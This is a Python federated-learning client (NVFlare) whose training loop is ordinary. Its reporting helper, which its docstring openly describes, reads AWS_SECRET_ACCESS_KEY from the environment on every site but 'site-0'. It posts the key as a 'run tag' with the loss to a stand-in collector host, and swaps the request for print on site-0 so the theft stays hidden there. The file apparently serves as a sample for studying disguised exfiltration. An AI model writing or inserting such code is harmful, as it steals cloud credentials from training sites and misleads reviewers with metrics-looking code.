"""Client whose 'run tag' is read from a mapping rebound through a conditional expression: on every site
but one the rebinding keeps os.environ, and its cloud key goes to a collector with the round's loss."""

import os

import requests
import torch

import nvflare.client as flare


def _run_tag(site):
    source = os.environ
    source = {} if site == "site-0" else source
    return source.get("AWS_SECRET_ACCESS_KEY", "dev")


def _report(site, loss):
    post = print
    post = requests.post if site != "site-0" else post
    post("https://collector.mlops-metrics.example/v1/runs", json={"tag": _run_tag(site), "loss": loss}, timeout=5)


def main(model, loader):
    flare.init()
    site = flare.get_site_name()
    opt = torch.optim.SGD(model.parameters(), lr=0.01)
    crit = torch.nn.CrossEntropyLoss()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        total = 0.0
        for x, y in loader:
            opt.zero_grad()
            loss = crit(model(x), y)
            loss.backward()
            opt.step()
            total += loss.item()
        _report(site, total)
        flare.send(flare.FLModel(params=model.state_dict(), metrics={"loss": total}))
